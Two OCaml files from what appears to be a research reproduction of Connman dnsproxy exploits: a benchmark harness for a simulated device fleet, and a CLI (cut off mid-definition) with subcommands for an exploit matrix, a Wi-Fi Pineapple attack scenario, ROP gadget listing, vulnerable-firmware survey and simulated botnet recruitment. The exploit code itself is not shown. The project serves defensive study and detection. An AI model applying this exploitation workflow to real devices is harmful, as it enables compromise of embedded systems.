    let z_ns, z_r2 = time_fn cfg ("wire/" ^ tag ^ "-zero-copy") (fun () -> ignore (zc ())) in
    let l_alloc = alloc_per_op (fun () -> ignore (legacy ())) in
    let z_alloc = alloc_per_op (fun () -> ignore (zc ())) in
    let speedup = if z_ns > 0.0 then l_ns /. z_ns else 0.0 in
    let alloc_ratio = if z_alloc > 0.0 then l_alloc /. z_alloc else Float.of_int (int_of_float l_alloc) in
    Format.printf
      "%-14s legacy %10s (%6.0f B/op)   zero-copy %10s (%6.0f B/op)   %5.1fx faster, %5.1fx fewer bytes@."
      tag (pretty_nanos l_ns) l_alloc (pretty_nanos z_ns) z_alloc speedup
      alloc_ratio;
    [
      bench_row ("wire/" ^ tag ^ "-legacy") "ns_per_op" l_ns
        ~extra:[ ("alloc_bytes_per_op", l_alloc); ("r_square", l_r2) ];
      bench_row ("wire/" ^ tag ^ "-zero-copy") "ns_per_op" z_ns
        ~extra:[ ("alloc_bytes_per_op", z_alloc); ("r_square", z_r2) ];
      bench_row ("wire/" ^ tag ^ "-speedup") "ratio" speedup
        ~extra:[ ("alloc_ratio", alloc_ratio) ];
    ]
  in
  let rows = bench "parse" legacy_parse zc_parse @ bench "respond" legacy_respond zc_respond in
  write_bench_json ~suite:"wire" ~smoke ~out rows

(* ------------------------------------------------------------------ *)
(* Fleet campaign benches: BENCH_fleet.json                            *)
(*                                                                     *)
(* The two numbers that set campaign scale: how fast devices spawn     *)
(* (a CoW fork of the firmware template, per ISA), and end-to-end      *)
(* scheduler throughput — events/sec of a whole campaign (benign +     *)
(* attack traffic, supervision, rollout) at shard counts 1/2/4.        *)
(*                                                                     *)
(*   dune exec bench/main.exe -- fleet            (full measurement)   *)
(*   dune exec bench/main.exe -- fleet --smoke    (few iterations)     *)
(*   dune build @fleet-bench-smoke                (dune smoke target)  *)
(* ------------------------------------------------------------------ *)

let run_fleet_json ~smoke ~out () =
  let cfg =
    if smoke then
      Benchmark.cfg ~limit:20 ~quota:(Time.second 0.02) ~stabilize:false ()
    else Benchmark.cfg ~limit:200 ~quota:(Time.second 0.5) ~stabilize:false ()
  in
  Format.printf "=== Fleet campaign benches%s ===@.@."
    (if smoke then " (smoke: few iterations)" else "");
  (* Device spawn: fork a daemon off a booted template, as the campaign
     does for the initial population, every reimage, and every patch. *)
  let bench_fork arch =
    let aname = Loader.Arch.name arch in
    let tpl =
      Connman.Dnsproxy.create
        {
          Connman.Dnsproxy.version = Connman.Version.v1_34;
          arch;
          profile = Profile.wx;
          boot_seed = 1;
          diversity_seed = None;
        }
    in
    let fork_ns, fork_r2 =
      time_fn cfg ("fleet/fork-" ^ aname) (fun () ->
          ignore (Connman.Dnsproxy.fork tpl))
    in
    let devices_per_sec = if fork_ns > 0.0 then 1e9 /. fork_ns else 0.0 in
    Format.printf "%-18s fork %10s  (%9.0f devices/s)@." aname
      (pretty_nanos fork_ns) devices_per_sec;
    [
      bench_row ("fleet/fork-" ^ aname) "ns_per_op" fork_ns
        ~extra:
          [ ("devices_per_sec", devices_per_sec); ("r_square", fork_r2) ];
    ]
  in
  (* Whole-campaign throughput at each shard count; one timed run each
     (a campaign is far too heavy for an OLS sweep). *)
  let bench_shards shards =
    let ccfg =
      if smoke then { Fleet.Campaign.smoke_config with Fleet.Campaign.shards }
      else
        {
          Fleet.Campaign.default_config with
          Fleet.Campaign.devices = 240;
          lans = 8;
          shards;
        }
    in
    let t0 = Sys.time () in
    let report = Fleet.Campaign.run ccfg in
    let wall_ns = (Sys.time () -. t0) *. 1e9 in
    let events = float_of_int report.Fleet.Campaign.r_events in
    let events_per_sec = if wall_ns > 0.0 then events *. 1e9 /. wall_ns else 0.0 in
    Format.printf "%-18s %8.0f events in %10s  (%9.0f events/s)@."
      (Printf.sprintf "campaign-shards-%d" shards)
      events (pretty_nanos wall_ns) events_per_sec;
    bench_row
      (Printf.sprintf "fleet/campaign-shards-%d" shards)
      "events_per_sec" events_per_sec
      ~extra:
        [
          ("events", events);
          ("wall_ns", wall_ns);
          ("devices", float_of_int ccfg.Fleet.Campaign.devices);
        ]
  in
  (* Flight-recorder cost: the identical campaign bare and with the
     monitor attached (1s scrape barrier, the built-in rule set, causal
     journaling), back to back.  The event count is the same both ways —
     the barrier only segments the run loop — so the overhead ratio is
     pure scrape + journal cost, the tentpole's <=5%% budget. *)
  let bench_monitored () =
    let shards = if smoke then 2 else 4 in
    let ccfg =
      if smoke then { Fleet.Campaign.smoke_config with Fleet.Campaign.shards }
      else
        {
          Fleet.Campaign.default_config with
          Fleet.Campaign.devices = 240;
          lans = 8;
          shards;
        }
    in
    let run_once ~monitored =
      let t0 = Sys.time () in
      let report =
        if monitored then begin
          let mon = Telemetry.Monitor.create (Telemetry.Metrics.create ()) in
          (match
             Telemetry.Monitor.add_rules mon Fleet.Campaign.default_rules
           with
          | Ok _ -> ()
          | Error e -> failwith ("fleet bench: bad built-in rules: " ^ e));
          Fleet.Campaign.run ~monitor:mon ccfg
        end
        else Fleet.Campaign.run ccfg
      in
      let wall_ns = (Sys.time () -. t0) *. 1e9 in
      (float_of_int report.Fleet.Campaign.r_events, wall_ns)
    in
    let b_events, b_wall = run_once ~monitored:false in
    let m_events, m_wall = run_once ~monitored:true in
    let eps events wall = if wall > 0.0 then events *. 1e9 /. wall else 0.0 in
    let b_eps = eps b_events b_wall and m_eps = eps m_events m_wall in
    let overhead = if b_eps > 0.0 then b_eps /. m_eps else 0.0 in
    Format.printf "%-18s %8.0f events in %10s  (%9.0f events/s)@."
      (Printf.sprintf "campaign-bare-%d" shards)
      b_events (pretty_nanos b_wall) b_eps;
    Format.printf
      "%-18s %8.0f events in %10s  (%9.0f events/s)  monitor overhead %5.2fx@."
      (Printf.sprintf "campaign-monitor-%d" shards)
      m_events (pretty_nanos m_wall) m_eps overhead;
    [
      bench_row
        (Printf.sprintf "fleet/campaign-monitored-shards-%d" shards)
        "events_per_sec" m_eps
        ~extra:
          [
            ("events", m_events);
            ("wall_ns", m_wall);
            ("devices", float_of_int ccfg.Fleet.Campaign.devices);
          ];
      bench_row "fleet/monitor-overhead" "ratio" overhead
        ~extra:[ ("bare_events_per_sec", b_eps) ];
    ]
  in
  let rows =
    List.concat_map bench_fork Loader.Arch.all
    @ List.map bench_shards [ 1; 2; 4 ]
    @ bench_monitored ()
  in
  write_bench_json ~suite:"fleet" ~smoke ~out rows

(* ------------------------------------------------------------------ *)
(* Software-diversity benches: BENCH_diversity.json                    *)
(*                                                                     *)
(* The three numbers that make per-boot diversification deployable:    *)
(* variant generation (seeded layout shuffle + padding + gadget-       *)
(* breaking rewrites over the whole image), diversified CoW fork       *)
(* latency vs a plain fork, and the mitigated interpreter's benign-    *)
(* parse overhead vs the plain hot loop — which must stay at or below *)
(* the sanitizer's ~1.9x parse budget.                                 *)
(*                                                                     *)
(*   dune exec bench/main.exe -- diversity           (full run)        *)
(*   dune exec bench/main.exe -- diversity --smoke   (few iterations)  *)
(*   dune build @diversity-bench-smoke               (dune target)     *)
(* ------------------------------------------------------------------ *)

let run_diversity_json ~smoke ~out () =
  let cfg =
    if smoke then
      Benchmark.cfg ~limit:20 ~quota:(Time.second 0.02) ~stabilize:false ()
    else Benchmark.cfg ~limit:200 ~quota:(Time.second 0.5) ~stabilize:false ()
  in
  Format.printf "=== Software-diversity benches%s ===@.@."
    (if smoke then " (smoke: few iterations)" else "");
  let per_arch arch =
    let aname = Loader.Arch.name arch in
    (* Variant plan: the whole diversification pipeline (seeded layout
       shuffle, per-chunk padding, equivalence rewrites) over the
       Connman image, fresh seed each call. *)
    let seed = ref 0 in
    let plan () =
      incr seed;
      match arch with
      | Loader.Arch.X86 ->
          ignore
            (Connman.Program_x86.variant_plan ~version:Connman.Version.v1_34
               ~profile:Profile.wx ~seed:!seed)
      | Loader.Arch.Arm ->
          ignore
            (Connman.Program_arm.variant_plan ~version:Connman.Version.v1_34
               ~profile:Profile.wx ~seed:!seed)
    in
    let plan_ns, plan_r2 =
      time_fn cfg ("diversity/variant-gen-" ^ aname) plan
    in
    (* Diversified spawn: CoW fork + in-place reimage of the variant,
       against the plain fork the fleet pays today. *)
    let tpl = Dnsproxy.create (mk_config arch Profile.wx 1) in
    let fork_ns, fork_r2 =
      time_fn cfg ("diversity/fork-plain-" ^ aname) (fun () ->
          ignore (Dnsproxy.fork tpl))
    in
    let dseed = ref 0 in
    let dfork_ns, dfork_r2 =
      time_fn cfg ("diversity/fork-div-" ^ aname) (fun () ->
          incr dseed;
          ignore (Dnsproxy.fork_diversified tpl ~diversity_seed:!dseed))
    in
    let fork_overhead = if fork_ns > 0.0 then dfork_ns /. fork_ns else 0.0 in
    (* Benign parse through the mitigated interpreter entry point
       (shadow return stack + forward-edge CFI) vs the plain hot loop. *)
    let parse mitigated =
      let profile =
        if mitigated then Profile.with_mitigations Profile.wx else Profile.wx
      in
      let d = Dnsproxy.create (mk_config arch profile 9) in
      fun () -> ignore (Dnsproxy.handle_response d (benign_wire d))
    in
    let p_ns, p_r2 =
      time_fn cfg ("diversity/parse-plain-" ^ aname) (parse false)
    in
    let m_ns, m_r2 =
      time_fn cfg ("diversity/parse-mitigated-" ^ aname) (parse true)
    in
    let parse_overhead = if p_ns > 0.0 then m_ns /. p_ns else 0.0 in
    Format.printf "%-8s variant-gen %12s   fork %12s -> %12s (%4.2fx)@." aname
      (pretty_nanos plan_ns) (pretty_nanos fork_ns) (pretty_nanos dfork_ns)
      fork_overhead;
    Format.printf "%-8s parse %12s -> %12s   mitigated overhead %4.2fx@." ""
      (pretty_nanos p_ns) (pretty_nanos m_ns) parse_overhead;
    [
      bench_row ("diversity/variant-gen-" ^ aname) "ns_per_op" plan_ns
        ~extra:
          [
            ("variants_per_sec", if plan_ns > 0.0 then 1e9 /. plan_ns else 0.0);
            ("r_square", plan_r2);
          ];
      bench_row ("diversity/fork-plain-" ^ aname) "ns_per_op" fork_ns
        ~extra:[ ("r_square", fork_r2) ];
      bench_row ("diversity/fork-div-" ^ aname) "ns_per_op" dfork_ns
        ~extra:
          [
            ("devices_per_sec", if dfork_ns > 0.0 then 1e9 /. dfork_ns else 0.0);
            ("r_square", dfork_r2);
          ];
      bench_row ("diversity/fork-" ^ aname ^ "/overhead") "ratio" fork_overhead;
      bench_row ("diversity/parse-plain-" ^ aname) "ns_per_run" p_ns
        ~extra:[ ("r_square", p_r2) ];
      bench_row ("diversity/parse-mitigated-" ^ aname) "ns_per_run" m_ns
        ~extra:[ ("r_square", m_r2) ];
      bench_row
        ("diversity/parse-" ^ aname ^ "/overhead")
        "ratio" parse_overhead;
    ]
  in
  write_bench_json ~suite:"diversity" ~smoke ~out
    (List.concat_map per_arch Loader.Arch.all)

(* ------------------------------------------------------------------ *)
(* Bench regression gate: compare two bench-suite-v1 files             *)
(*                                                                     *)
(*   dune exec bench/main.exe -- regress --base OLD.json \              *)
(*     --new NEW.json [--tolerance 10]                                 *)
(*   dune build @bench-regress-smoke              (self-compare check) *)
(*                                                                     *)
(* Rows are matched by name; the comparison is direction-aware by       *)
(* unit (ns_* smaller-better, events_per_sec larger-better, ratios     *)
(* larger-better except .../overhead rows).  Any row whose regression  *)
(* exceeds the tolerance fails the run (exit 1).                       *)
(* ------------------------------------------------------------------ *)

(* [`Smaller]: a smaller value is better (times, overheads). *)
let regress_direction ~unit_ ~name =
  match unit_ with
  | "ns_per_op" | "ns_per_run" -> `Smaller
  | "events_per_sec" -> `Larger
  | "ratio" ->
      if
        String.length name >= 8
        && String.sub name (String.length name - 8) 8 = "overhead"
      then `Smaller
      else `Larger
  | _ -> `Larger

let run_regress ~base ~next ~tolerance () =
  let module J = Telemetry.Json in
  let load path =
    let text = In_channel.with_open_bin path In_channel.input_all in
    match J.parse text with
    | Error e -> failwith (Printf.sprintf "%s: %s" path e)
    | Ok v -> v
  in
  let rows path v =
    match
      ( Option.bind (J.member "schema" v) J.to_string,
        Option.bind (J.member "results" v) J.to_list )
    with
    | Some "bench-suite-v1", Some rs ->
        List.filter_map
          (fun r ->
            match
              ( Option.bind (J.member "name" r) J.to_string,
                Option.bind (J.member "unit" r) J.to_string,
                Option.bind (J.member "value" r) J.to_float )
            with
            | Some n, Some u, Some value -> Some (n, (u, value))
            | _ -> None)
          rs
    | Some "bench-suite-v1", None ->
        failwith (path ^ ": missing \"results\" array")
    | Some other, _ ->
        failwith (Printf.sprintf "%s: schema %S is not bench-suite-v1" path other)
    | None, _ -> failwith (path ^ ": missing \"schema\"")
  in
  let base_rows = rows base (load base) in
  let next_rows = rows next (load next) in
  Format.printf "=== Bench regression gate (tolerance %.1f%%) ===@.@."
    tolerance;
  Format.printf "  base: %s@.  new:  %s@.@." base next;
  Format.printf "%-40s %6s %14s %14s %9s  %s@." "bench" "unit" "base" "new"
    "delta" "verdict";
  Format.printf "%s@." (String.make 96 '-');
  let regressions = ref 0 and compared = ref 0 in
  List.iter
    (fun (name, (unit_, bv)) ->
      match List.assoc_opt name next_rows with
      | None -> Format.printf "%-40s %6s : dropped from new run@." name unit_
      | Some (nunit, _) when nunit <> unit_ ->
          incr regressions;
          Format.printf "%-40s : unit changed %s -> %s  REGRESSED@." name
            unit_ nunit
      | Some (_, nv) ->
          incr compared;
          (* Positive delta = worse, whichever way the unit points. *)
          let delta_pct =
            if bv = 0.0 then 0.0
            else
              match regress_direction ~unit_ ~name with
              | `Smaller -> (nv -. bv) /. bv *. 100.0
              | `Larger -> (bv -. nv) /. bv *. 100.0
          in
          let bad = delta_pct > tolerance in
          if bad then incr regressions;
          Format.printf "%-40s %6s %14.4f %14.4f %+8.2f%%  %s@." name
            (match unit_ with
            | "events_per_sec" -> "ev/s"
            | "ns_per_op" -> "ns/op"
            | "ns_per_run" -> "ns/run"
            | u -> u)
            bv nv delta_pct
            (if bad then "REGRESSED" else "ok"))
    base_rows;
  List.iter
    (fun (name, (unit_, _)) ->
      if not (List.mem_assoc name base_rows) then
        Format.printf "%-40s %6s : new bench (no baseline)@." name unit_)
    next_rows;
  Format.printf "@.%d compared, %d regression(s)@." !compared !regressions;
  if !regressions > 0 then exit 1

let () =
  let argv = Array.to_list Sys.argv in
  let out_of default argv =
    let rec go = function
      | "--out" :: path :: _ -> path
      | _ :: rest -> go rest
      | [] -> default
    in
    go argv
  in
  let flag_value name argv =
    let rec go = function
      | f :: v :: _ when f = name -> Some v
      | _ :: rest -> go rest
      | [] -> None
    in
    go argv
  in
  let smoke = List.mem "--smoke" argv in
  if List.mem "regress" argv then begin
    match (flag_value "--base" argv, flag_value "--new" argv) with
    | Some base, Some next ->
        let tolerance =
          match flag_value "--tolerance" argv with
          | None -> 10.0
          | Some t -> (
              match float_of_string_opt t with
              | Some t when t >= 0.0 -> t
              | _ -> failwith ("regress: bad --tolerance " ^ t))
        in
        run_regress ~base ~next ~tolerance ()
    | _ ->
        prerr_endline
          "usage: regress --base OLD.json --new NEW.json [--tolerance PCT]";
        exit 2
  end
  else if List.mem "all" argv then begin
    (* Every JSON suite in one run; --out is a directory prefix here. *)
    let dir = out_of "." argv in
    let path name = Filename.concat dir name in
    run_cache_json ~smoke ~out:(path "BENCH_cache.json") ();
    run_cpu_json ~smoke ~out:(path "BENCH_cpu.json") ();
    run_faults_json ~smoke ~out:(path "BENCH_faults.json") ();
    run_sanitizer_json ~smoke ~out:(path "BENCH_sanitizer.json") ();
    run_fuzz_json ~smoke ~out:(path "BENCH_fuzz.json") ();
    run_wire_json ~smoke ~out:(path "BENCH_wire.json") ();
    run_fleet_json ~smoke ~out:(path "BENCH_fleet.json") ();
    run_diversity_json ~smoke ~out:(path "BENCH_diversity.json") ()
  end
  else if List.mem "cache" argv then
    run_cache_json ~smoke ~out:(out_of "BENCH_cache.json" argv) ()
  else if List.mem "cpu" argv then
    run_cpu_json ~smoke ~out:(out_of "BENCH_cpu.json" argv) ()
  else if List.mem "faults" argv then
    run_faults_json ~smoke ~out:(out_of "BENCH_faults.json" argv) ()
  else if List.mem "sanitizer" argv then
    run_sanitizer_json ~smoke ~out:(out_of "BENCH_sanitizer.json" argv) ()
  else if List.mem "fuzz" argv then
    run_fuzz_json ~smoke ~out:(out_of "BENCH_fuzz.json" argv) ()
  else if List.mem "wire" argv then
    run_wire_json ~smoke ~out:(out_of "BENCH_wire.json" argv) ()
  else if List.mem "fleet" argv then
    run_fleet_json ~smoke ~out:(out_of "BENCH_fleet.json" argv) ()
  else if List.mem "diversity" argv then
    run_diversity_json ~smoke ~out:(out_of "BENCH_diversity.json" argv) ()
  else begin
    print_experiments ();
    print_parse_costs ();
    run_benchmarks ()
  end
