(* connman-repro: command-line driver for the reproduction.

   Subcommands:
     experiments  — run the full experiment index and print the table
     matrix       — the six-exploit §III matrix only
     pineapple    — narrate the §III-D remote scenario
     gadgets      — list gadgets in the Connman image (ropper/ROPgadget)
     firmware     — print the firmware survey catalogue
     layout       — print a booted process's address-space layout
     trace        — replay a matrix cell with the cross-layer tracer on
     profile      — instruction-level profile of a matrix cell's parses
     sanitize     — the detection matrix: every cell under the taint
                    sanitizer, with symbolized exploit reports
     metrics      — cache stats + the Prometheus-style metrics registry
                    (cache-stats is its deprecated alias) *)

open Cmdliner

let arch_conv =
  let parse = function
    | "x86" -> Ok Loader.Arch.X86
    | "arm" | "armv7" -> Ok Loader.Arch.Arm
    | s ->
        Error
          (`Msg
            (Printf.sprintf "unknown architecture: %s (expected x86, arm, or armv7)" s))
  in
  Arg.conv (parse, Loader.Arch.pp)

let profile_conv =
  (* Compound profile strings: a base (none, wx, wx+aslr) optionally
     extended with "+"-separated mitigations, e.g. wx+aslr+shstk+fcfi.
     "aslr" alone keeps its historical meaning of wx+aslr. *)
  let feature p = function
    | "aslr" -> Some (Defense.Profile.with_entropy 12 p)
    | "canary" -> Some (Defense.Profile.with_canary p)
    | "cfi" -> Some (Defense.Profile.with_cfi p)
    | "shstk" -> Some (Defense.Profile.with_shadow_stack p)
    | "fcfi" -> Some (Defense.Profile.with_forward_cfi p)
    | "mitigated" -> Some (Defense.Profile.with_mitigations p)
    | "seccomp" -> Some (Defense.Profile.with_seccomp p)
    | _ -> None
  in
  let parse s =
    let err =
      Error
        (`Msg
          (Printf.sprintf
             "unknown profile: %s (expected none, wx, or wx+aslr, optionally \
              extended with +canary, +cfi, +shstk, +fcfi, +mitigated, \
              +seccomp)"
             s))
    in
    match String.split_on_char '+' s with
    | [] -> err
    | base :: features -> (
        let base =
          match base with
          | "none" -> Some Defense.Profile.none
          | "wx" -> Some Defense.Profile.wx
          | "aslr" -> Some Defense.Profile.wx_aslr
          | _ -> None
        in
        match
          List.fold_left
            (fun acc f -> match acc with None -> None | Some p -> feature p f)
            base features
        with
        | Some p -> Ok p
        | None -> err)
  in
  Arg.conv (parse, Defense.Profile.pp)

let shards_conv =
  let parse s =
    match int_of_string_opt s with
    | Some n when n > 0 -> Ok n
    | _ ->
        Error
          (`Msg
            (Printf.sprintf "invalid shard count: %s (expected a positive integer)" s))
  in
  Arg.conv (parse, Format.pp_print_int)

let seed_arg =
  Arg.(value & opt int 1 & info [ "seed" ] ~doc:"Deterministic run seed.")

let arch_arg =
  Arg.(
    value
    & opt arch_conv Loader.Arch.Arm
    & info [ "arch" ] ~doc:"Target architecture (x86 or arm).")

let profile_arg =
  Arg.(
    value
    & opt profile_conv Defense.Profile.wx_aslr
    & info [ "profile" ] ~doc:"Protection profile (none, wx, wx+aslr).")

let markdown_arg =
  Arg.(value & flag & info [ "markdown" ] ~doc:"Emit a markdown table.")

let experiments_cmd =
  let run seed markdown =
    let rows = Core.Experiments.all ~seed () in
    if markdown then Format.printf "%a@." Core.Experiments.pp_markdown rows
    else Format.printf "%a@." Core.Experiments.pp_table rows;
    if List.for_all (fun r -> r.Core.Experiments.ok) rows then 0 else 1
  in
  Cmd.v
    (Cmd.info "experiments" ~doc:"Run the full experiment index (E0–E8, A1–A8).")
    Term.(const run $ seed_arg $ markdown_arg)

let matrix_cmd =
  let run seed =
    Format.printf "%a@." Core.Experiments.pp_table
      (Core.Experiments.e1_to_e6_matrix ~seed ());
    0
  in
  Cmd.v
    (Cmd.info "matrix" ~doc:"Run the six-exploit matrix of §III.")
    Term.(const run $ seed_arg)

let pineapple_cmd =
  let run seed arch profile =
    let config =
      {
        Connman.Dnsproxy.version = Connman.Version.v1_34;
        arch;
        profile;
        boot_seed = seed;
        diversity_seed = None;
      }
    in
    match Core.Scenario.pineapple_attack ~seed ~config () with
    | Error e ->
        Format.eprintf "payload generation failed: %s@." e;
        1
    | Ok r ->
        Format.printf "%a@." Core.Scenario.pp_result r;
        Format.printf "@.device log:@.";
        List.iter (fun l -> Format.printf "  %s@." l)
          (Core.Device.events r.Core.Scenario.device);
        0
  in
  Cmd.v
    (Cmd.info "pineapple" ~doc:"Run the §III-D Wi-Fi Pineapple scenario.")
    Term.(const run $ seed_arg $ arch_arg $ profile_arg)

let gadgets_cmd =
  let run seed arch limit =
    let d =
      Connman.Dnsproxy.create
        {
          Connman.Dnsproxy.version = Connman.Version.v1_34;
          arch;
          profile = Defense.Profile.wx;
          boot_seed = seed;
          diversity_seed = None;
        }
    in
    let proc = Connman.Dnsproxy.process d in
    (match arch with
    | Loader.Arch.X86 ->
        let gs = Exploit.Gadget.scan_x86 proc ~regions:[ ".text" ] in
        Format.printf "%d gadgets in .text (showing %d)@." (List.length gs)
          (min limit (List.length gs));
        List.iteri
          (fun i g -> if i < limit then Format.printf "%a@." Exploit.Gadget.pp_x86 g)
          gs
    | Loader.Arch.Arm ->
        let gs = Exploit.Gadget.scan_arm proc ~regions:[ ".text" ] in
        Format.printf "%d gadgets in .text@." (List.length gs);
        List.iteri
          (fun i g -> if i < limit then Format.printf "%a@." Exploit.Gadget.pp_arm g)
          gs);
    0
  in
  let limit_arg =
    Arg.(value & opt int 40 & info [ "limit" ] ~doc:"Maximum gadgets to print.")
  in
  Cmd.v
    (Cmd.info "gadgets" ~doc:"List code-reuse gadgets in the Connman image.")
    Term.(const run $ seed_arg $ arch_arg $ limit_arg)

let firmware_cmd =
  let run () =
    List.iter
      (fun fw ->
        Format.printf "%a  [%s]@." Core.Firmware.pp fw
          (if Core.Firmware.vulnerable fw then "VULNERABLE" else "patched"))
      Core.Firmware.catalog;
    0
  in
  Cmd.v
    (Cmd.info "firmware" ~doc:"Print the firmware survey catalogue.")
    Term.(const run $ const ())

let layout_cmd =
  let run seed arch profile =
    let d =
      Connman.Dnsproxy.create
        {
          Connman.Dnsproxy.version = Connman.Version.v1_34;
          arch;
          profile;
          boot_seed = seed;
          diversity_seed = None;
        }
    in
    Format.printf "%a@." Loader.Process.pp_summary (Connman.Dnsproxy.process d);
    0
  in
  Cmd.v
    (Cmd.info "layout" ~doc:"Print a booted connmand's address-space layout.")
    Term.(const run $ seed_arg $ arch_arg $ profile_arg)

let disasm_cmd =
  let run seed arch fn =
    let d =
      Connman.Dnsproxy.create
        {
          Connman.Dnsproxy.version = Connman.Version.v1_34;
          arch;
          profile = Defense.Profile.wx;
          boot_seed = seed;
          diversity_seed = None;
        }
    in
    let proc = Connman.Dnsproxy.process d in
    match Loader.Process.symbol_opt proc fn with
    | None ->
        Format.eprintf "unknown function %S@." fn;
        1
    | Some _ ->
        List.iter (Format.printf "%s@.")
          (Exploit.Debugger.disassemble_function proc ~name:fn ~max_insns:128 ());
        0
  in
  let fn_arg =
    Arg.(
      value & pos 0 string "get_name"
      & info [] ~docv:"FUNCTION" ~doc:"Symbol to disassemble.")
  in
  Cmd.v
    (Cmd.info "disasm" ~doc:"Disassemble a function of the Connman image.")
    Term.(const run $ seed_arg $ arch_arg $ fn_arg)

(* Shared by trace/profile/metrics: which exploit-matrix cell to replay
   and under which chaos fault schedule. *)
let cell_arg =
  Arg.(
    value & opt string "E3"
    & info [ "cell" ] ~doc:"Exploit-matrix cell (DoS, E1..E6).")

let schedule_arg =
  Arg.(
    value & opt string "clean"
    & info [ "schedule" ]
        ~doc:
          "Named chaos fault schedule (clean, loss-30, loss-60, loss-90, \
           dup-reorder, corrupt-20, flappy).")

let pp_cell_summary seed (row : Core.Experiments.chaos_row) =
  Format.printf
    "cell %s under %s (seed %d): compromised=%b crashes=%d restarts=%d \
     availability=%.2f@."
    row.Core.Experiments.cell row.Core.Experiments.schedule seed
    row.Core.Experiments.compromised row.Core.Experiments.crashes
    row.Core.Experiments.restarts row.Core.Experiments.availability

let trace_cmd =
  let run seed cell schedule buffer out check limit =
    let trace = Telemetry.Trace.create ~capacity:buffer () in
    match Core.Experiments.run_instrumented_cell ~seed ~schedule ~trace ~cell () with
    | Error e ->
        Format.eprintf "%s@." e;
        1
    | Ok (row, _symbolize) ->
        pp_cell_summary seed row;
        Format.printf "%d events emitted, %d retained, %d dropped@."
          (Telemetry.Trace.emitted trace)
          (Telemetry.Trace.length trace)
          (Telemetry.Trace.dropped trace);
        (match out with
        | Some path ->
            let json = Telemetry.Trace.to_chrome_json trace in
            let oc = open_out path in
            output_string oc json;
            close_out oc;
            Format.printf "wrote %s (%d bytes; load in ui.perfetto.dev)@." path
              (String.length json)
        | None ->
            let evs = Telemetry.Trace.events trace in
            let n = List.length evs in
            List.iteri
              (fun i e ->
                if i < limit / 2 || i >= n - (limit / 2) then
                  Format.printf "%a@." Telemetry.Trace.pp_event e
                else if i = limit / 2 then
                  Format.printf "  ... (%d events elided)@." (n - limit))
              evs);
        if check then
          match Telemetry.Json.validate (Telemetry.Trace.to_chrome_json trace) with
          | Ok () ->
              Format.printf "trace json: well-formed@.";
              0
          | Error e ->
              Format.eprintf "trace json: INVALID (%s)@." e;
              1
        else 0
  in
  let buffer_arg =
    Arg.(
      value & opt int 65536
      & info [ "buffer" ] ~doc:"Ring-buffer capacity in events.")
  in
  let out_arg =
    Arg.(
      value
      & opt (some string) None
      & info [ "out" ]
          ~doc:"Write Chrome trace-event JSON (Perfetto-loadable) to a file.")
  in
  let check_arg =
    Arg.(
      value & flag
      & info [ "check" ] ~doc:"Validate the exported JSON; exit 1 if malformed.")
  in
  let limit_arg =
    Arg.(
      value & opt int 60
      & info [ "limit" ] ~doc:"Timeline lines to print (head/tail split).")
  in
  Cmd.v
    (Cmd.info "trace"
       ~doc:
         "Replay one exploit-matrix cell with the cross-layer tracer attached \
          (cpu, memory, network, daemon, supervisor on one timeline).")
    Term.(
      const run $ seed_arg $ cell_arg $ schedule_arg $ buffer_arg $ out_arg
      $ check_arg $ limit_arg)

let profile_cmd =
  let run seed cell schedule top folded =
    let profiler = Telemetry.Profile.create () in
    match
      Core.Experiments.run_instrumented_cell ~seed ~schedule ~profiler ~cell ()
    with
    | Error e ->
        Format.eprintf "%s@." e;
        1
    | Ok (row, symbolize) ->
        pp_cell_summary seed row;
        Format.printf "@.%a@."
          (Telemetry.Profile.pp_flat ~top ~symbolize)
          profiler;
        (match folded with
        | None -> ()
        | Some path ->
            let oc = open_out path in
            output_string oc (Telemetry.Profile.folded profiler ~symbolize ());
            close_out oc;
            Format.printf "wrote %s (folded stacks for flamegraph.pl)@." path);
        0
  in
  let top_arg =
    Arg.(value & opt int 20 & info [ "top" ] ~doc:"Flat-profile rows to print.")
  in
  let folded_arg =
    Arg.(
      value
      & opt (some string) None
      & info [ "folded" ] ~doc:"Write flamegraph-ready folded stacks to a file.")
  in
  Cmd.v
    (Cmd.info "profile"
       ~doc:
         "Replay one exploit-matrix cell with the instruction-level profiler \
          attached and print a per-symbol flat profile.")
    Term.(const run $ seed_arg $ cell_arg $ schedule_arg $ top_arg $ folded_arg)

let sanitize_cmd =
  let run seed out check show_reports =
    let rows = Core.Experiments.detection_matrix ~seed () in
    Format.printf "%a@." Core.Experiments.pp_detection rows;
    if show_reports then
      List.iter
        (fun (r : Core.Experiments.detection_row) ->
          match r.Core.Experiments.det_rendered with
          | [] -> ()
          | lines ->
              Format.printf "@.%s (%s, %s):@." r.Core.Experiments.det_cell
                r.Core.Experiments.det_arch r.Core.Experiments.det_profile;
              List.iter (fun l -> Format.printf "  %s@." l) lines)
        rows;
    let json = Core.Experiments.detection_json ~seed rows in
    (match out with
    | None -> ()
    | Some path ->
        let oc = open_out path in
        output_string oc json;
        close_out oc;
        Format.printf "wrote %s@." path);
    let json_ok =
      (not check)
      ||
      match Telemetry.Json.validate json with
      | Ok () ->
          Format.printf "detection json: well-formed@.";
          true
      | Error e ->
          Format.eprintf "detection json: INVALID (%s)@." e;
          false
    in
    if json_ok && List.for_all (fun r -> r.Core.Experiments.det_ok) rows then 0
    else 1
  in
  let out_arg =
    Arg.(
      value
      & opt (some string) None
      & info [ "out" ] ~doc:"Write the detection matrix as JSON to a file.")
  in
  let check_arg =
    Arg.(
      value & flag
      & info [ "check" ] ~doc:"Validate the exported JSON; exit 1 if malformed.")
  in
  let reports_arg =
    Arg.(
      value & flag
      & info [ "reports" ]
          ~doc:"Also print every sanitizer report (symbolized), per cell.")
  in
  Cmd.v
    (Cmd.info "sanitize"
       ~doc:
         "Re-run the DoS, the six-exploit matrix, and benign controls under \
          the byte-granular taint sanitizer; print where each attack was \
          first detected (exit 1 if any cell is missed or a benign control \
          reports).")
    Term.(const run $ seed_arg $ out_arg $ check_arg $ reports_arg)

let botnet_cmd =
  let run seed =
    let pick n = Option.get (Core.Firmware.find n) in
    let firmwares =
      [
        pick "openelec-8"; pick "yocto-build"; pick "nest-like-thermostat";
        pick "ubuntu-mate-rpi3"; pick "tizen-3"; pick "tizen-4";
      ]
    in
    let r = Core.Scenario.botnet_recruitment ~seed ~firmwares () in
    List.iter
      (fun (name, status) ->
        Format.printf "%-28s %s@." name
          (match status with
          | `Recruited -> "RECRUITED"
          | `Crashed -> "crashed"
          | `Resisted -> "resisted"))
      r.Core.Scenario.fleet;
    Format.printf "@.%d/%d recruited@." r.Core.Scenario.recruited
      (List.length r.Core.Scenario.fleet);
    0
  in
  Cmd.v
